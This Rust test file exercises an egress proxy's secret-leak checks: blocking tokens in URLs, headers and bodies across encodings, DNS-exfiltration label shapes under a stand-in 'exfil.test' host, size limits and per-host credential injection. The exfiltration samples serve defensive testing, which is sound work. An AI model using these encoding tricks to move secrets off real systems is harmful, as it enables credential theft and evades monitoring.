//! Checks 3, 4, 7 and 8: secrets in URLs, host labels, headers and bodies
//! (decoded), DNS-exfiltration shapes, size limits, credential injection.

use super::common::*;
use base64::Engine;
use bottle_egress::{Credential, KnownSecret, Secret, dlp_samples};
use bottle_testkit::upstream::{self, Upstream};
use bytes::Bytes;
use std::io::Write;

async fn setup(h: &mut Harness) -> (Upstream, bottle_egress::ProxyHandle, String) {
    let up = upstream::http().run().await;
    h.loopback().allow(&format!("127.0.0.1:{}", up.port()));
    let proxy = h.start().await;
    let base = format!("http://127.0.0.1:{}", up.port());
    (up, proxy, base)
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

/// Every block leaves the upstream untouched and the secret out of the
/// audit log.
fn assert_clean(h: &Harness, up: &Upstream, secret: &str) {
    assert!(
        up.requests().is_empty(),
        "a blocked request reached the upstream"
    );
    let log = h.audit_text();
    assert!(
        !log.contains(secret),
        "the secret leaked into the audit log:\n{log}"
    );
    assert!(
        !log.contains(&secret[4..]),
        "part of the secret leaked into the audit log:\n{log}"
    );
}

#[tokio::test]
async fn secrets_in_the_url_are_blocked() {
    let mut h = Harness::new();
    let (up, proxy, base) = setup(&mut h).await;
    let t = github_token();
    let enc = t.replace('_', "%5F");
    let double = enc.replace('%', "%25");
    for url in [
        format!("{base}/search?q={t}"),
        format!("{base}/repos/{t}/x"),
        format!("{base}/search?q={enc}"),
        format!("{base}/search?q={double}"),
    ] {
        let r = get(proxy.addr(), &url).await;
        assert_blocked(&r, 403, "dlp-url:github-pat");
        assert!(!r.text().contains(&t), "the block must not echo the secret");
    }
    let lines = h.audit();
    assert_eq!(lines.len(), 4);
    assert!(
        lines
            .iter()
            .all(|l| l["check"] == "dlp-url" && l["path"] == "[redacted]")
    );
    assert_clean(&h, &up, &t);
}

#[tokio::test]
async fn secrets_in_host_labels_are_blocked_before_resolution() {
    let mut h = Harness::new();
    h.loopback().allow("*.exfil.test");
    let key = aws_key();
    let proxy = h.start().await;
    for host in [
        format!("{key}.exfil.test"),
        format!("{}.{}.exfil.test", &key[..9], &key[9..]),
        format!("{}.{}.x.exfil.test", &key[..10], &key[10..]),
    ] {
        let r = get(proxy.addr(), &format!("http://{host}/")).await;
        assert_blocked(&r, 403, "dlp-url:aws-access-token");
    }
    assert!(
        h.resolver.calls().is_empty(),
        "a name carrying a secret must never reach DNS"
    );
    let log = h.audit_text();
    assert!(
        !log.to_ascii_lowercase()
            .contains(&key[4..].to_ascii_lowercase()),
        "{log}"
    );
    assert!(log.contains("[redacted].exfil.test"), "{log}");
}

#[tokio::test]
async fn dns_exfiltration_shapes_are_blocked_before_resolution() {
    let mut h = Harness::new();
    h.loopback().allow("*.exfil.test");
    let proxy = h.start().await;
    // Fixed data (a random one was all digits in ~2% of runs, which
    // another check names first; that shape is covered below).
    let hexed: String = b"exfiltrated-data"
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let cases = [
        (format!("{hexed}.exfil.test"), "hex-label"),
        (
            format!("{}.exfil.test", "mfrggzdfmztwq2lknnwg23tpobyxe43u"),
            "base32-label",
        ),
        (
            format!("{}.exfil.test", "q9zk3xv7m2pl8wn4bt6yr1sd"),
            "high-entropy-label",
        ),
        (
            format!("{}.exfil.test", "aq9zk3xvm2pl.wn4bt6yr1sdk.c7hj2mzqp0xe"),
            "chunked-labels",
        ),
    ];
    for (host, rule) in &cases {
        let r = get(proxy.addr(), &format!("http://{host}/")).await;
        assert_blocked(&r, 403, &format!("dns-exfil:{rule}"));
    }
    // Hex of digits only is still data: refused before resolution.
    let r = get(
        proxy.addr(),
        "http://31323334353637383930313233343536.exfil.test/",
    )
    .await;
    assert_eq!(r.status, 403, "{}", r.text());
    assert!(h.resolver.calls().is_empty());
    // An ordinary subdomain under the same rule is resolved (and, having no
    // address here, fails at resolution, not at the shape check).
    let r = get(proxy.addr(), "http://api.exfil.test/").await;
    assert_blocked(&r, 502, "resolve:no-address");
    assert_eq!(h.resolver.calls(), vec!["api.exfil.test"]);
}

#[tokio::test]
async fn an_idna_prefix_does_not_hide_encoded_data_in_a_label() {
    let mut h = Harness::new();
    h.loopback().allow("*.exfil.test");
    let proxy = h.start().await;
    let hexed: String = b"exfiltrated-data"
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let r = get(proxy.addr(), &format!("http://xn--{hexed}.exfil.test/")).await;
    assert_blocked(&r, 403, "dns-exfil:hex-label");
    assert!(h.resolver.calls().is_empty());
    // A real internationalised label (münchen) is a name: it is resolved.
    let r = get(proxy.addr(), "http://xn--mnchen-3ya.exfil.test/").await;
    assert_blocked(&r, 502, "resolve:no-address");
    assert_eq!(h.resolver.calls(), vec!["xn--mnchen-3ya.exfil.test"]);
}

/// Issue 12, class 1: encodings spread over labels, long chains, mixed
/// encodings and, for words, the budget of distinct names per wildcard; a
/// name an exact entry allows is never judged by shape.
#[tokio::test]
async fn issue12_hostname_exfiltration_classes() {
    let mut h = Harness::new();
    h.loopback()
        .allow("*.exfil.test")
        .allow("d1a2b3c4d5e6f7a8.cdn.test");
    h.cfg.limits.max_names_per_wildcard = 6;
    let proxy = h.start().await;
    let hexed: String = b"secret!!".iter().map(|b| format!("{b:02x}")).collect();
    let cases = [
        // Hex chunks spread over labels (each label short).
        (
            format!("{}.{}.exfil.test", &hexed[..8], &hexed[8..]),
            "hex-label",
        ),
        // Base32 at 16 characters, upper case as sent.
        ("MFRGGZDFMZTWQ2LK.exfil.test".to_string(), "base32-label"),
        // Mixed encodings across labels.
        (
            "a1b2c3d4e5.mfrgg2d.x9k3.exfil.test".to_string(),
            "high-entropy-label",
        ),
        // A long chain of short labels.
        ("se.cr.et.da.ta.exfil.test".to_string(), "chunked-labels"),
    ];
    for (host, rule) in &cases {
        let r = get(proxy.addr(), &format!("http://{host}/")).await;
        assert_blocked(&r, 403, &format!("dns-exfil:{rule}"));
    }
    assert!(h.resolver.calls().is_empty(), "{:?}", h.resolver.calls());
    // Dictionary words pass the shape checks, but each new name is a
    // lookup: past the budget, new names are refused before resolution.
    for w in ["raw", "objects", "api", "apple", "banana", "cherry"] {
        let r = get(proxy.addr(), &format!("http://{w}.exfil.test/")).await;
        assert_blocked(&r, 502, "resolve:no-address");
    }
    let r = get(proxy.addr(), "http://damson.exfil.test/").await;
    assert_blocked(&r, 403, "dns-exfil:too-many-names");
    // A name already used costs nothing more.
    let r = get(proxy.addr(), "http://raw.exfil.test/").await;
    assert_blocked(&r, 502, "resolve:no-address");
    // Benign twin: a CDN name with a hex-like id that the user allowed
    // exactly is resolved, not judged by shape.
    let r = get(proxy.addr(), "http://d1a2b3c4d5e6f7a8.cdn.test/").await;
    assert_blocked(&r, 502, "resolve:no-address");
    let calls = h.resolver.calls();
    assert!(!calls.iter().any(|c| c.starts_with("damson")), "{calls:?}");
    assert!(calls.iter().any(|c| c == "d1a2b3c4d5e6f7a8.cdn.test"));
    let log = h.audit_text();
    assert!(!log.contains(&hexed[..8]), "{log}");
}

#[tokio::test]
async fn secrets_in_headers_are_blocked() {
    let mut h = Harness::new();
    let (up, proxy, base) = setup(&mut h).await;
    let t = github_token();
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("user:{t}"));
    for (name, value) in [
        ("x-token", t.clone()),
        ("cookie", format!("session=1; gh={t}")),
        ("authorization", format!("Basic {basic}")),
    ] {
        let r = plain(
            proxy.addr(),
            "GET",
            &format!("{base}/"),
            &[(name, &value)],
            Bytes::new(),
        )
        .await;
        assert_blocked_by(&r, 403, "dlp-header");
    }
    assert_clean(&h, &up, &t);
}

#[tokio::test]
async fn secrets_in_bodies_are_blocked_in_every_encoding() {
    let mut h = Harness::new();
    let (up, proxy, base) = setup(&mut h).await;
    let t = github_token();
    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("token={t}"));
    let hexed: String = t.bytes().map(|b| format!("{b:02x}")).collect();
    let json_escaped = t.replace('_', "\\u005f");
    let multipart = format!(
        "--XyZ\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhello\r\n--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.env\"\r\nContent-Type: text/plain\r\n\r\nGITHUB_TOKEN={t}\r\n--XyZ--\r\n"
    );
    let url_enc = t.replace('_', "%5F");
    let double = url_enc.replace('%', "%25");
    let cases: Vec<(&str, Vec<u8>, Option<&str>)> = vec![
        (
            "application/json",
            format!("{{\"token\":\"{t}\"}}").into_bytes(),
            None,
        ),
        (
            "application/json",
            format!("{{\"token\":\"{json_escaped}\"}}").into_bytes(),
            None,
        ),
        (
            "application/x-www-form-urlencoded",
            format!("a=1&token={url_enc}").into_bytes(),
            None,
        ),
        (
            "application/x-www-form-urlencoded",
            format!("a=1&token={double}").into_bytes(),
            None,
        ),
        (
            "multipart/form-data; boundary=XyZ",
            multipart.into_bytes(),
            None,
        ),
        (
            "application/json",
            format!("{{\"blob\":\"{b64}\"}}").into_bytes(),
            None,
        ),
        ("text/plain", format!("data {hexed} end").into_bytes(), None),
        (
            "application/json",
            gzip(format!("{{\"token\":\"{t}\"}}").as_bytes()),
            Some("gzip"),
        ),
    ];
    for (ct, body, enc) in cases {
        let mut hdrs = vec![("content-type", ct)];
        if let Some(e) = enc {
            hdrs.push(("content-encoding", e));
        }
        let r = plain(proxy.addr(), "POST", &format!("{base}/upload"), &hdrs, body).await;
        assert_blocked_by(&r, 403, "dlp-body");
    }
    assert_clean(&h, &up, &t);
    // A clean body passes whole and unchanged.
    let clean = "{\"message\":\"hello\"}";
    let r = plain(
        proxy.addr(),
        "POST",
        &format!("{base}/upload"),
        &[("content-type", "application/json")],
        clean,
    )
    .await;
    assert_eq!(r.status, 200);
    assert_eq!(up.requests()[0].body, clean.as_bytes());
    let line = h.wait_audit(|l| l["decision"] == "allow").await;
    assert_eq!(line["bytes_up"], clean.len());
}

#[tokio::test]
async fn oversize_and_undecodable_bodies_are_blocked() {
    let mut h = Harness::new();
    h.cfg.limits.scan_limit = 1024;
    let (up, proxy, base) = setup(&mut h).await;
    let big = vec![b'a'; 2048];
    let r = plain(proxy.addr(), "POST", &format!("{base}/"), &[], big.clone()).await;
    assert_blocked(&r, 413, "dlp-body:too-large");
    // Small on the wire, too large once decompressed.
    let r = plain(
        proxy.addr(),
        "POST",
        &format!("{base}/"),
        &[("content-encoding", "gzip")],
        gzip(&vec![b'a'; 100_000]),
    )
    .await;
    assert_blocked(&r, 413, "dlp-body:too-large");
    let r = plain(
        proxy.addr(),
        "POST",
        &format!("{base}/"),
        &[("content-encoding", "gzip")],
        "definitely not gzip",
    )
    .await;
    assert_blocked(&r, 403, "dlp-body:undecodable");
    let r = plain(
        proxy.addr(),
        "POST",
        &format!("{base}/"),
        &[("content-encoding", "x-custom")],
        "data",
    )
    .await;
    assert_blocked(&r, 403, "dlp-body:undecodable");
    assert!(up.requests().is_empty());
    // Chunked, no Content-Length: the limit still holds.
    let (status, _, mut tcp) = (
        0u16,
        (),
        tokio::net::TcpStream::connect(proxy.addr()).await.unwrap(),
    );
    let _ = status;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let head =
        format!("POST {base}/ HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n");
    tcp.write_all(head.as_bytes()).await.unwrap();
    for _ in 0..4 {
        tcp.write_all(format!("200\r\n{}\r\n", "b".repeat(512)).as_bytes())
            .await
            .unwrap();
    }
    tcp.write_all(b"0\r\n\r\n").await.unwrap();
    let mut buf = vec![0u8; 4096];
    let n = tcp.read(&mut buf).await.unwrap();
    let answer = String::from_utf8_lossy(&buf[..n]);
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(up.requests().is_empty());
    let blocks = h
        .audit()
        .into_iter()
        .filter(|l| l["check"] == "dlp-body")
        .count();
    assert_eq!(blocks, 5);
}

#[tokio::test]
async fn known_secrets_are_blocked_in_encoded_forms() {
    let mut h = Harness::new();
    let value = format!("corp-{}", random_alnum(24));
    h.cfg.known_secrets.push(KnownSecret {
        name: "CORP_TOKEN".into(),
        value: Secret::new(value.clone()),
    });
    let (up, proxy, base) = setup(&mut h).await;
    let b64 = base64::engine::general_purpose::STANDARD.encode(&value);
    let hexed: String = value.bytes().map(|b| format!("{b:02x}")).collect();
    for body in [value.clone(), format!("x={b64}"), format!("x={hexed}")] {
        let r = plain(proxy.addr(), "POST", &format!("{base}/"), &[], body).await;
        assert_eq!(r.status, 403, "{}", r.text());
        assert!(
            r.header("x-bottle-block").unwrap().starts_with("dlp-body:"),
            "{:?}",
            r.header("x-bottle-block")
        );
    }
    assert_clean(&h, &up, &value);
}

#[tokio::test]
async fn credentials_are_injected_only_for_their_host_and_never_logged() {
    let mut h = Harness::new();
    let api = upstream::https(&h.upstream_ca)
        .name("api.anthropic.com")
        .run()
        .await;
    let other = upstream::https(&h.upstream_ca)
        .name("other.example.com")
        .run()
        .await;
    let real = format!("sk-real-{}", random_alnum(32));
    h.cfg.credentials.push(Credential {
        host: "api.anthropic.com".into(),
        header: "x-api-key".into(),
        value: Secret::new(real.clone()),
        placeholder: None,
    });
    h.allow("api.anthropic.com").allow("other.example.com");
    h.map_host("api.anthropic.com", api.addr())
        .map_host("other.example.com", other.addr());
    assert!(
        !format!("{:?}", h.cfg).contains(&real),
        "Debug of the config shows the value"
    );
    let proxy = h.start().await;
    let a = proxy.addr();
    for h2 in [false, true] {
        let r = https(
            &h,
            a,
            "api.anthropic.com:443",
            "POST",
            "/v1/messages",
            &[("x-api-key", "placeholder")],
            "{}",
            h2,
        )
        .await
        .unwrap();
        assert_eq!(r.status, 200, "{}", r.text());
    }
    for req in api.requests() {
        assert_eq!(
            req.header("x-api-key"),
            Some(real.as_str()),
            "the real value replaces the placeholder"
        );
        assert_eq!(
            req.headers.iter().filter(|(n, _)| n == "x-api-key").count(),
            1
        );
    }
    // Other hosts get no credential, and the placeholder passes as is.
    let r = https(
        &h,
        a,
        "other.example.com:443",
        "GET",
        "/",
        &[("x-api-key", "placeholder")],
        Bytes::new(),
        false,
    )
    .await
    .unwrap();
    assert_eq!(r.status, 200);
    assert_eq!(other.requests()[0].header("x-api-key"), Some("placeholder"));
    // The real value sent anywhere else is a known secret: blocked.
    let r = https(
        &h,
        a,
        "other.example.com:443",
        "POST",
        "/",
        &[],
        format!("{{\"k\":\"{real}\"}}"),
        false,
    )
    .await
    .unwrap();
    assert_eq!(r.status, 403);
    assert!(r.header("x-bottle-block").unwrap().starts_with("dlp-body:"));
    let b64 = base64::engine::general_purpose::STANDARD.encode(&real);
    let r = https(
        &h,
        a,
        "other.example.com:443",
        "GET",
        "/",
        &[("x-forward", &b64)],
        Bytes::new(),
        false,
    )
    .await
    .unwrap();
    assert!(
        r.header("x-bottle-block")
            .unwrap()
            .starts_with("dlp-header:")
    );
    assert_eq!(other.requests().len(), 1);
    h.wait_audit(|l| l["host"] == "api.anthropic.com" && l["decision"] == "allow")
        .await;
    let log = h.audit_text();
    assert!(
        !log.contains(&real) && !log.contains(&b64),
        "the credential leaked into the audit log"
    );
}

/// Issue 12, class 9: a finding the user accepts, for one host. The block
/// names the fingerprint and the manifest line; with `dlp_allow` the same
/// body goes to that host, and is still refused elsewhere.
#[tokio::test]
async fn issue12_dlp_allow_accepts_one_finding_for_one_host() {
    let t = github_token();
    let body = format!("{{\"fixture\":\"{t}\"}}");
    let mut h = Harness::new();
    let (up, proxy, base) = setup(&mut h).await;
    let r = plain(
        proxy.addr(),
        "POST",
        &format!("{base}/v1/messages"),
        &[],
        body.clone(),
    )
    .await;
    assert_blocked(&r, 403, "dlp-body:github-pat");
    let fp = bottle_secrets::fingerprint("github-pat", t.as_bytes());
    assert!(
        r.text().contains(&format!("fingerprint = \"{fp}\"")),
        "{}",
        r.text()
    );
    let line = h.last_audit().await;
    assert_eq!(line["fingerprint"], fp.as_str());
    assert!(up.requests().is_empty());
    drop(proxy);

    let mut h = Harness::new();
    let up = upstream::http().run().await;
    let other = upstream::http().run().await;
    h.loopback()
        .allow(&format!("127.0.0.1:{}", up.port()))
        .allow(&format!("localhost:{}", other.port()))
        .map_host("localhost", other.addr());
    h.cfg.dlp_allow = vec![bottle_egress::DlpAllow {
        host: "127.0.0.1".into(),
        fingerprint: fp.clone(),
    }];
    let proxy = h.start().await;
    let r = plain(
        proxy.addr(),
        "POST",
        &format!("http://127.0.0.1:{}/v1/messages", up.port()),
        &[],
        body.clone(),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(up.requests().len(), 1);
    let r = plain(
        proxy.addr(),
        "POST",
        &format!("http://localhost:{}/v1/messages", other.port()),
        &[],
        body,
    )
    .await;
    assert_blocked(&r, 403, "dlp-body:github-pat");
    assert!(other.requests().is_empty());
    // A bad entry is a config error naming the key.
    let mut c = h.cfg.clone();
    c.dlp_allow[0].fingerprint = "abc".into();
    assert!(
        c.validate()
            .unwrap_err()
            .to_string()
            .contains("dlp_allow[0].fingerprint")
    );
}

/// Issue 12, classes 3 and 9: an opaque high-entropy value in a path or
/// query blocks; content-addressed shapes, package-manager paths and
/// presigned object-store URLs (an access key id in X-Amz-Credential, an
/// Azure SAS signature with GitHub's jwt) pass, and the id stays a secret
/// anywhere else in the URL.
#[tokio::test]
async fn issue12_url_entropy_and_presigned_shapes() {
    let mut h = Harness::new();
    let (up, proxy, base) = setup(&mut h).await;
    // Deterministic: about 2% of random draws change character class too
    // rarely (or hold no digit) to count as opaque.
    let blob = seeded_alnum(40, 7);
    for url in [
        format!("{base}/collect?d={blob}"),
        format!("{base}/x/{blob}/y"),
    ] {
        let r = get(proxy.addr(), &url).await;
        assert_blocked(&r, 403, "dlp-url:high-entropy-value");
    }
    assert!(up.requests().is_empty());
    assert!(!h.audit_text().contains(&blob[..20]));
    let key = aws_key();
    let presigned = format!(
        "{base}/github-production-release-asset-2e65be/1/a.tar.gz?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={key}%2F20250101%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20250101T000000Z&X-Amz-Expires=300&X-Amz-Signature={}&X-Amz-SignedHeaders=host&actor_id=0&key_id=0&repo_id=1",
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
    );
    let sas = format!(
        "{base}/github-production-release-asset/1/123e4567-e89b-12d3-a456-426614174000?sp=r&sv=2018-11-09&sr=b&spr=https&se=2025-01-01T00%3A10%3A00Z&rscd=attachment%3B+filename%3Da.tar.gz&rsct=application%2Foctet-stream&sig={}%3D&jwt=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJpc3MiOiJnaXRodWIuY29tIn0.{}",
        random_alnum(43),
        random_alnum(43)
    );
    // The same key id outside the presigned shape is a secret (asked
    // first: once this echoing upstream has answered the presigned URL with
    // the key in its JSON, the site has it and it may go back there).
    let r = get(
        proxy.addr(),
        &format!("{base}/o?X-Amz-Credential={key}&x=1"),
    )
    .await;
    assert_blocked(&r, 403, "dlp-url:aws-access-token");
    for url in [
        presigned,
        sas,
        format!(
            "{base}/packages/3d/5b/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08/requests-2.32.3-py3-none-any.whl"
        ),
        format!(
            "{base}/v2/library/ubuntu/blobs/sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
        ),
        format!("{base}/crates/tokio/tokio-1.54.1.crate"),
        format!("{base}/repos/o/r/actions/runs/123e4567-e89b-12d3-a456-426614174000"),
    ] {
        let r = get(proxy.addr(), &url).await;
        assert_eq!(r.status, 200, "{url}\n{}", r.text());
    }
}

/// Lower-case base32 without padding (what DNS tunnels put in labels).
fn base32_label(data: &[u8]) -> String {
    const A: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
    let mut out = String::new();
    for chunk in data.chunks(5) {
        let mut buf = [0u8; 5];
        buf[..chunk.len()].copy_from_slice(chunk);
        let v = buf.iter().fold(0u64, |acc, &b| acc << 8 | u64::from(b));
        for i in 0..(chunk.len() * 8).div_ceil(5) {
            out.push(A[((v >> (35 - 5 * i)) & 31) as usize] as char);
        }
    }
    out
}

/// A DNS-over-HTTPS lookup through an allowed resolver carries its name to
/// that name's zone: a secret encoded in the queried name is blocked, a
/// name of the same shape without one goes through.
#[tokio::test]
async fn secrets_in_dns_over_https_query_names_are_blocked() {
    let mut h = Harness::new();
    h.allow("doh.example.test");
    let proxy = h.start().await;
    let leak = base32_label(aws_key().as_bytes());
    let r = get(
        proxy.addr(),
        &format!(
            "http://doh.example.test/dns-query?dns={}",
            dlp_samples::doh_query(&[&leak, "x", "exfil", "test"])
        ),
    )
    .await;
    assert_blocked(&r, 403, "dlp-url:aws-access-token");
    let benign = base32_label(b"N7Q4R8T2V9W3X5Y6Z1A0");
    for q in [
        dlp_samples::doh_query(&[&benign, "x", "cache", "test"]),
        dlp_samples::doh_query(&["www", "example", "com"]),
    ] {
        let r = get(
            proxy.addr(),
            &format!("http://doh.example.test/dns-query?dns={q}"),
        )
        .await;
        assert_blocked(&r, 502, "resolve:no-address");
    }
}

/// A run of `n` letters and digits holding both cases and a digit.
fn token_body(n: usize, seed: u64) -> String {
    let mut s = seeded_alnum(n - 3, seed);
    s.push_str("7Qa");
    s
}

#[tokio::test]
async fn issue12_vendor_token_variants_and_cut_short_key_material() {
    let mut h = Harness::new();
    let (up, proxy, base) = setup(&mut h).await;
    let json = [("content-type", "application/json")];
    // A 23-character AWS key id (digits outside real ids' base32), also
    // base64-encoded; an ASIA (temporary) id.
    let long_id = format!("{}{}{}", "AK", "IAEXAMPLE", "0".repeat(12));
    let b64_id = base64::engine::general_purpose::STANDARD.encode(&long_id);
    let asia = format!("{}{}", "AS", "IA") + &token_body(19, 3).to_ascii_uppercase();
    // SendGrid keys with parts of other lengths; test and restricted keys.
    let sg = format!(
        "SG.FAKE_TEST_KEY_{}.FAKE_TEST_{}",
        "0".repeat(10),
        "0".repeat(41)
    );
    let sk_test = format!("{}{}", "sk-te", "st-") + &token_body(24, 4);
    let rk_live = format!("{}{}", "rk_li", "ve_") + &token_body(30, 5);
    let stripe_fake = format!("{}{}", "sk_li", "ve_FAKE_TEST_KEY_") + &"0".repeat(11);
    // A PEM key cut short, escaped in JSON; a service-account file whose
    // key is cut to a few characters.
    let pem = format!(
        "{{\"k\": \"-----BEGIN PRIVATE KEY-----\\n{}\"}}",
        token_body(64, 6)
    );
    let sa = format!(
        "{{\"type\": \"service_account\", \"project_id\": \"demo\", \"private_key\": \"-----BEGIN PRIVATE KEY-----\\n{}\", \"client_email\": \"svc@demo.iam.gserviceaccount.com\"}}",
        token_body(10, 7)
    );
    let cases: Vec<(String, &str)> = vec![
        (
            format!("{{\"content\": \"{long_id}\"}}"),
            "dlp-body:aws-access-token-variant",
        ),
        (
            format!("{{\"content\": \"{b64_id}\"}}"),
            "dlp-body:aws-access-token-variant",
        ),
        (
            format!("{{\"id\": \"{asia}\"}}"),
            "dlp-body:aws-access-token-variant",
        ),
        (
            format!("{{\"v\": \"{sk_test}\"}}"),
            "dlp-body:stripe-access-token-variant",
        ),
        (
            format!("{{\"v\": \"{rk_live}\"}}"),
            "dlp-body:stripe-access-token",
        ),
        (format!("{{\"v\": \"{stripe_fake}\"}}"), "dlp-body:"),
        (pem, "dlp-body:private-key-fragment"),
        (sa, "dlp-body:gcp-service-account-key-fragment"),
    ];
    for (body, block) in &cases {
        let r = plain(
            proxy.addr(),
            "POST",
            &format!("{base}/upload"),
            &json,
            body.clone(),
        )
        .await;
        let got = r.header("x-bottle-block").unwrap_or("<none>").to_string();
        assert!(
            r.status == 403 && got.starts_with(block),
            "{body}: expected {block}, got {} {got}",
            r.status
        );
    }
    // In a header, and in a URL.
    let r = plain(
        proxy.addr(),
        "POST",
        &format!("{base}/hook"),
        &[("x-api-key", sg.as_str())],
        Bytes::new(),
    )
    .await;
    assert_blocked(&r, 403, "dlp-header:sendgrid-api-token-variant");
    let r = get(proxy.addr(), &format!("{base}/api?key={long_id}")).await;
    assert_blocked(&r, 403, "dlp-url:aws-access-token-variant");
    assert!(
        up.requests().is_empty(),
        "a blocked request reached the upstream"
    );
    let log = h.audit_text();
    for secret in [&long_id, &asia, &sk_test, &rk_live, &sg] {
        assert!(
            !log.contains(&secret[4..]),
            "a secret leaked into the audit log"
        );
    }
    // Benign twins pass whole: spinner CSS classes, `SG.` in prose and
    // code, `AKIA` inside a word, a service-account template without key
    // material, a PEM header without a body, test-run paths.
    let benign = [
        r#"{"html": "<div class=\"sk-circle sk-fading-circle sk-cube-grid2\"></div>"}"#.to_string(),
        r#"{"text": "Offices in SG. Singapore; let f = SG.ComponentFactory.create(SG.DEFAULT_CONFIG_V2);"}"#.to_string(),
        format!("{{\"text\": \"MAKIA{}\"}}", token_body(19, 8).to_ascii_uppercase()),
        r#"{"type": "service_account", "project_id": "demo", "private_key_id": "", "private_key": "", "client_email": "svc@demo.iam.gserviceaccount.com"}"#.to_string(),
        r#"{"code": "if line.starts_with(\"-----BEGIN PRIVATE KEY-----\") { return Err(e); }"}"#.to_string(),
        r#"{"out": "sk-test-results-directory2", "region": "ASIAPACIFIC2024"}"#.to_string(),
    ];
    for body in &benign {
        let r = plain(
            proxy.addr(),
            "POST",
            &format!("{base}/upload"),
            &json,
            body.clone(),
        )
        .await;
        assert_eq!(r.status, 200, "{body}\n{}", r.text());
    }
    assert_eq!(up.requests().len(), benign.len());
}

#[tokio::test]
async fn issue12_an_aws_secret_key_sent_encoded_and_alone_is_blocked() {
    let mut h = Harness::new();
    let (up, proxy, base) = setup(&mut h).await;
    let hex = |d: &[u8]| d.iter().map(|b| format!("{b:02x}")).collect::<String>();
    // 40 characters of the key's alphabet, both cases and a digit.
    let secret = format!("{}/{}+a7Q", seeded_alnum(20, 41), seeded_alnum(15, 42));
    assert_eq!(secret.len(), 40);
    let mut blob = vec![0xde, 0xad, 0xbe, 0xef, 0x00, 0x11, 0x22];
    blob.extend_from_slice(secret.as_bytes());
    blob.extend_from_slice(&[0x0a, 0x00, 0xff]);
    let b64 = base64::engine::general_purpose::STANDARD.encode(&secret);
    for (ct, body) in [
        ("application/octet-stream", hex(&blob)),
        ("application/json", format!("{{\"data\": \"{b64}\"}}")),
    ] {
        let r = plain(
            proxy.addr(),
            "POST",
            &format!("{base}/firmware"),
            &[("content-type", ct)],
            body,
        )
        .await;
        assert_blocked(&r, 403, "dlp-body:aws-secret-access-key-variant");
    }
    assert_clean(&h, &up, &secret);
    // Benign twins: the same shape as plain text (no keyword, not
    // encoded), and a hex-encoded git object id.
    let sha = hex(seeded_alnum(20, 43).as_bytes());
    for body in [
        format!("{{\"sig\": \"{secret}\"}}"),
        format!("{{\"data\": \"{}\"}}", hex(sha.as_bytes())),
    ] {
        let r = plain(
            proxy.addr(),
            "POST",
            &format!("{base}/upload"),
            &[("content-type", "application/json")],
            body.clone(),
        )
        .await;
        assert_eq!(r.status, 200, "{body}\n{}", r.text());
    }
}
